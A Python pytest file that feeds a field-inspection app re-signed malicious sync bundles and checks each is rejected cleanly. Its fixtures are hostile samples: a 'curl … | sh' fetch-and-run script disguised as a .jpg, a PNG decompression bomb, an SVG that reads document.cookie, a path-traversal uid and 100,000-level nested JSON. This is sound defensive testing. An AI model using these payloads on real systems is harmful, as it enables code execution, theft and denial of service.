"""Validly signed poison (issue 10): every bundle below is signed by the enrolled inspector's own key
with the project's signing code, yet carries something the office must not store.  Each is refused
before the transaction with its stable code, the office is unchanged (database, files, list output,
``PRAGMA integrity_check``), a good bundle after it in the same folder is imported, and ``bundle
show`` / ``bundle verify`` print a message, never a traceback."""

from __future__ import annotations

import copy
import hashlib
import io
import json
import sqlite3
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from bundle_zipcraft import read_members, recompute, replace_line, top_of, write_members
from PIL import Image
from sync_helpers import Side, assign_one, enrol, fill_and_complete, id_of, make_side, snapshot

from inspector_app.cli import main
from inspector_app.services import findings, inspections, photos
from inspector_app.services.ops.sync import export_bundle, import_paths
from inspector_app.services.sync import validation

pytestmark = pytest.mark.both_engines

Members = dict[str, bytes]
Edit = Callable[[Members, str, "Poison"], None]


@dataclass
class Poison:
    """What a case may use: the office's foreign finding and photo uids."""

    foreign_finding: str
    foreign_photo: str


def _jpeg(colour: tuple[int, int, int], size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "JPEG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(width: int = 20_000, height: int = 20_000) -> bytes:
    """A PNG that claims 20000×20000 pixels (400 MP): a few hundred bytes until it is decoded."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
            + _chunk(b"IEND", b""))


SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


# -- editing a bundle -------------------------------------------------------------------------------
def _record_name(m: Members, top: str) -> str:
    return next(n for n in m if n.startswith(f"{top}/data/records/inspections/"))


def _edit_record(change: Callable[[dict[str, Any], Poison], None], raw: dict[str, str] | None = None) -> Edit:
    """Change the inspection record; ``raw`` replaces quoted markers by raw JSON text (``1e400``)."""
    def edit(m: Members, top: str, p: Poison) -> None:
        name = _record_name(m, top)
        rec = json.loads(m[name])
        change(rec, p)
        text = json.dumps(rec, ensure_ascii=False)
        for marker, value in (raw or {}).items():
            text = text.replace(json.dumps(marker), value)
        m[name] = text.encode()
    return edit


def _edit_header(change: Callable[[dict[str, Any]], None], raw: dict[str, str] | None = None,
                 sequence: str | None = None) -> Edit:
    def edit(m: Members, top: str, _p: Poison) -> None:
        name = f"{top}/inspector-bundle.json"
        doc = json.loads(m[name])
        change(doc)
        text = json.dumps(doc, ensure_ascii=False)
        for marker, value in (raw or {}).items():
            text = text.replace(json.dumps(marker), value)
        m[name] = text.encode()
        if sequence is not None:
            replace_line(m, f"{top}/bag-info.txt", "Inspector-Sequence", sequence)
    return edit


def _replace_original(data: bytes, ext: str) -> Edit:
    """Put ``data`` in place of the photo's original (a new content-addressed file)."""
    def edit(m: Members, top: str, p: Poison) -> None:
        sha = hashlib.sha256(data).hexdigest()
        name = _record_name(m, top)
        rec = json.loads(m[name])
        old = rec["photos"][0]["sha256"]
        for member in [n for n in m if f"/data/photos/originals/{old}." in n]:
            del m[member]
        m[f"{top}/data/photos/originals/{sha}.{ext}"] = data
        rec["photos"][0].update(sha256=sha, original_ext=ext, size_bytes=len(data))
        m[name] = json.dumps(rec, ensure_ascii=False).encode()
    return edit


def _signature_file(data: bytes, ext: str) -> Edit:
    """The first signature's image replaced by ``data`` under ``data/signatures/<sha>.<ext>``."""
    def edit(m: Members, top: str, p: Poison) -> None:
        sha = hashlib.sha256(data).hexdigest()
        m[f"{top}/data/signatures/{sha}.{ext}"] = data
        name = _record_name(m, top)
        rec = json.loads(m[name])
        rec["signatures"][0]["image_sha256"] = sha
        m[name] = json.dumps(rec, ensure_ascii=False).encode()
    return edit


def _set(path: str, value: Any) -> Callable[[dict[str, Any], Poison], None]:
    """Set ``a.0.b`` style paths in the record."""
    def change(rec: dict[str, Any], _p: Poison) -> None:
        *parts, last = path.split(".")
        target: Any = rec
        for part in parts:
            target = target[int(part)] if part.isdigit() else target[part]
        target[int(last) if last.isdigit() else last] = value
    return change


def _deep(levels: int) -> str:
    return "[" * levels + "]" * levels


def _duplicate(key: str) -> Callable[[dict[str, Any], Poison], None]:
    def change(rec: dict[str, Any], _p: Poison) -> None:
        twin = copy.deepcopy(rec[key][0])
        if key == "photos":
            twin["sha256"] = hashlib.sha256(b"another").hexdigest()
        rec[key].append(twin)
    return change


def _foreign(key: str) -> Callable[[dict[str, Any], Poison], None]:
    def change(rec: dict[str, Any], p: Poison) -> None:
        rec[key][0]["uid"] = p.foreign_finding if key == "findings" else p.foreign_photo
    return change


def _many_photos(rec: dict[str, Any], _p: Poison) -> None:
    rec["photos"] = [{"uid": f"00000000-0000-4000-8000-{n:012d}"} for n in range(5_000)]


BIG = str(2**70)
# (label, edit, expected code)
CASES: list[tuple[str, Edit, str]] = [
    ("revision 1e400", _edit_record(_set("revision", "@R@"), {"@R@": "1e400"}), "json_not_finite"),
    ("revision 2^70", _edit_record(_set("revision", 2**70)), "number_out_of_range"),
    ("base revision -1", _edit_record(_set("base_revision", -1)), "number_out_of_range"),
    ("sequence 1e400", _edit_header(lambda d: d.update(sequence="@S@"), {"@S@": "1e400"}), "json_not_finite"),
    ("sequence 2^70", _edit_header(lambda d: d.update(sequence=2**70), sequence=BIG), "number_out_of_range"),
    ("ack 1e400", _edit_header(lambda d: d["extra"].update(acks=[["00000000-0000-4000-8000-000000000001", "@A@"]]),
                               {"@A@": "1e400"}), "json_not_finite"),
    ("ack 2^70", _edit_header(lambda d: d["extra"].update(acks=[["00000000-0000-4000-8000-000000000001", 2**70]])),
     "number_out_of_range"),
    ("record 100,000 levels deep", _edit_record(_set("location", "@D@"), {"@D@": _deep(100_000)}), "json_too_deep"),
    ("header 100,000 levels deep", _edit_header(lambda d: d["extra"].update(deep="@D@"), {"@D@": _deep(100_000)}),
     "json_too_deep"),
    ("markup 100,000 levels deep", _edit_record(_set("photos.0.markup_json", _deep(100_000))), "json_too_deep"),
    ("NaN deduction", _edit_record(_set("answers.0.extra_deduction", float("nan"))), "json_not_finite"),
    ("Infinity deduction", _edit_record(_set("answers.0.extra_deduction", float("inf"))), "json_not_finite"),
    ("NaN in a required date", _edit_record(_set("created_at", float("nan"))), "json_not_finite"),
    ("list for the revision", _edit_record(_set("revision", [1])), "bad_record"),
    ("list for a photo position", _edit_record(_set("photos.0.position", [])), "bad_record"),
    ("null for a required text", _edit_record(_set("location", None)), "bad_record"),
    ("aware time", _edit_record(_set("findings.0.created_at", "2026-01-01T08:00:00+08:00")), "bad_record"),
    ("bad date", _edit_record(_set("findings.0.deadline", "2026-02-30")), "bad_record"),
    ("malformed uid", _edit_record(_set("findings.0.uid", "../../etc")), "bad_record"),
    ("duplicate finding uid", _edit_record(_duplicate("findings")), "duplicate_uid"),
    ("duplicate photo uid", _edit_record(_duplicate("photos")), "duplicate_uid"),
    ("foreign finding uid", _edit_record(_foreign("findings")), "foreign_uid"),
    ("foreign photo uid", _edit_record(_foreign("photos")), "foreign_uid"),
    ("unknown result", _edit_record(_set("answers.0.result", "完美")), "bad_record"),
    ("unknown severity", _edit_record(_set("findings.0.severity", "致命")), "bad_record"),
    ("unknown signer role", _edit_record(_set("signatures.0.role", "admin")), "bad_record"),
    ("unknown item code", _edit_record(_set("answers.0.item_code", "Z.99")), "unknown_item_code"),
    ("unknown finding item code", _edit_record(_set("findings.0.item_code", "Z.99")), "unknown_item_code"),
    ("unknown deduction rule", _edit_record(_set("answers.0.deductions", [["no-such-rule", 1]])), "unknown_item_code"),
    ("5,000 photos", _edit_record(_many_photos), "too_many_records"),
    ("20000x20000 PNG", _replace_original(bomb_png(), "png"), "bad_photo"),
    ("shell script named .jpg", _replace_original(SHELL, "jpg"), "bad_photo"),
    ("SVG signature with a script", _signature_file(SVG, "svg"), "bad_signature_image"),
    ("SVG named .png", _signature_file(SVG, "png"), "bad_signature_image"),
    ("strokes as markup", _edit_record(_set("signatures.0.strokes_json", '{"version": 1, "strokes": "<svg/>"}')),
     "bad_signature_image"),
]


@dataclass
class Setup:
    office: Side
    field: Side
    fid: int
    poison: Poison
    root: Path


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
    root = tmp_path_factory.mktemp("poison")
    office = make_side(root / "office", "office", "常州市应急管理局")
    field = make_side(root / "field", "inspector", "陈示范")
    enrol(field, office)
    enrol(office, field)
    oid = assign_one(office)
    sent = export_bundle(office.ws, office.identity, root / "assign.inspbundle")
    (report,) = import_paths(field.ws, [sent.path]).reports
    assert report.status == "imported", report.reason
    with office.ws.sessions() as s:
        uid = inspections.get(s, oid).uid
    fid = id_of(field, uid)
    shot = root / "shot.jpg"
    shot.write_bytes(_jpeg((200, 120, 40)))
    fill_and_complete(field, fid, [shot])
    # Another inspection in the office, with a finding and a photo of its own: their uids are "foreign".
    other = assign_one(office, "常州立信化工有限公司", "MA1W2X3Y5")
    with office.ws.sessions.begin() as s:
        insp = inspections.get(s, other)
        code = inspections.template_for(insp).items[0].code
        finding = findings.add(s, insp, "科长", description="配电箱门未关闭", item_code=code)
        photo, _ = photos.add_photo_bytes(s, photos.photo_store(office.ws.photo_dir), other,
                                          _jpeg((10, 90, 200)), "other.jpg", "科长")
        poison = Poison(finding.uid, photo.uid)
    yield Setup(office, field, fid, poison, root)
    office.ws.close()
    field.ws.close()


def _fresh(setup: Setup, name: str) -> Path:
    """A new, good bundle from the inspector (the next sequence number)."""
    return export_bundle(setup.field.ws, setup.field.identity, setup.root / name, inspection_ids=[setup.fid]).path


def _poisoned(setup: Setup, edit: Edit, out: Path) -> Path:
    members = read_members(_fresh(setup, f"{out.stem}-source.inspbundle"))
    top = top_of(members)
    edit(members, top, setup.poison)
    payload = [data for n, data in members.items() if n.startswith(f"{top}/data/")]
    replace_line(members, f"{top}/bag-info.txt", "Payload-Oxum", f"{sum(map(len, payload))}.{len(payload)}")
    recompute(members, resign=setup.field.identity.signer)
    write_members(out, members)
    return out


def _state(side: Side, capsys: pytest.CaptureFixture[str]) -> tuple[Any, ...]:
    """Everything an import could change: the database dump and file list, the photos/ tree with
    each file's hash, the list output; and the integrity check must pass."""
    con = sqlite3.connect(side.ws.db_path)
    try:
        assert con.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    finally:
        con.close()
    tree = sorted((str(p.relative_to(side.ws.photo_dir)), hashlib.sha256(p.read_bytes()).hexdigest())
                  for p in side.ws.photo_dir.rglob("*") if p.is_file())
    capsys.readouterr()
    assert main(["--data-dir", str(side.ws.root), "inspections", "list", "--format", "json"]) == 0
    listing = capsys.readouterr().out
    json.loads(listing)
    return snapshot(side.ws), tree, listing


def _no_traceback(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = main(list(argv))  # an uncaught exception here fails the test
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    assert code in (0, 1)
    if err:
        assert err.startswith("inspector-app: "), err
    return code, out + err


@pytest.mark.parametrize(("label", "edit", "code"), CASES, ids=[c[0] for c in CASES])
def test_poison_is_refused_and_the_next_bundle_imported(setup: Setup, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                        label: str, edit: Edit, code: str) -> None:
    office = setup.office
    folder = tmp_path / "usb"
    folder.mkdir()
    bad = _poisoned(setup, edit, folder / "a-poison.inspbundle")

    before = _state(office, capsys)
    (alone,) = import_paths(office.ws, [bad]).reports
    assert (alone.status, alone.code) == ("rejected", code), f"{label}: {alone.code} {alone.reason}"
    assert _state(office, capsys) == before

    # The same poison on a USB stick, followed by a good bundle: reported, and the good one imported.
    _fresh(setup, str(folder / "b-good.inspbundle"))
    first, second = import_paths(office.ws, [folder]).reports
    assert (first.path.name, first.status, first.code) == ("a-poison.inspbundle", "rejected", code)
    assert (second.path.name, second.status) == ("b-good.inspbundle", "imported"), second.reason

    # bundle show needs no enrolled key; bundle verify checks against the office's trust store.
    _no_traceback(capsys, "bundle", "show", str(bad))
    _no_traceback(capsys, "--data-dir", str(office.ws.root), "bundle", "verify", str(bad))


def test_the_cli_import_reports_each_file(setup: Setup, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "usb"
    folder.mkdir()
    _poisoned(setup, CASES[0][1], folder / "a.inspbundle")
    _poisoned(setup, _replace_original(SHELL, "jpg"), folder / "b.inspbundle")
    _fresh(setup, str(folder / "c.inspbundle"))
    code, out = _no_traceback(capsys, "--data-dir", str(setup.office.ws.root), "bundle", "import", str(folder))
    assert code == 1
    assert "[json_not_finite]" in out and "[bad_photo]" in out and "not_image" in out
    assert "c.inspbundle：已导入" in out


def test_an_unexpected_error_refuses_that_bundle_only(setup: Setup, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                      monkeypatch: pytest.MonkeyPatch,
                                                      caplog: pytest.LogCaptureFixture) -> None:
    """A bug met by one bundle is its refusal (internal_error, traceback in the log, never printed)."""
    folder = tmp_path / "usb"
    folder.mkdir()
    _fresh(setup, str(folder / "a.inspbundle"))
    _fresh(setup, str(folder / "b.inspbundle"))
    real = validation.check_owners
    calls: list[int] = []

    def first_fails(*args: Any) -> None:
        calls.append(1)
        if len(calls) == 1:
            raise RecursionError("maximum recursion depth exceeded")
        real(*args)

    monkeypatch.setattr(validation, "check_owners", first_fails)
    with caplog.at_level("ERROR"):
        first, second = import_paths(setup.office.ws, [folder]).reports
    assert (first.status, first.code) == ("rejected", "internal_error")
    assert "RecursionError" in first.reason and "Traceback" not in first.reason
    assert second.status == "imported", second.reason
    assert any(r.exc_info and r.exc_info[0] is RecursionError for r in caplog.records)


def test_bundle_show_and_verify_never_crash(setup: Setup, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    good = _fresh(setup, str(tmp_path / "good.inspbundle"))
    assert _no_traceback(capsys, "bundle", "show", str(good))[0] == 0

    def broken(*_args: Any, **_kw: Any) -> Any:
        raise OverflowError("cannot convert float infinity to integer")

    monkeypatch.setattr("inspector_app.cli.bundle.verify_bundle", broken)
    monkeypatch.setattr("inspector_app.services.queries.sync.verify_bundle", broken)
    code, text = _no_traceback(capsys, "bundle", "show", str(good))
    assert code == 1 and "OverflowError" in text and "internal error" in text
    code, text = _no_traceback(capsys, "--data-dir", str(setup.office.ws.root), "bundle", "verify", str(good))
    assert code == 1 and "OverflowError" in text
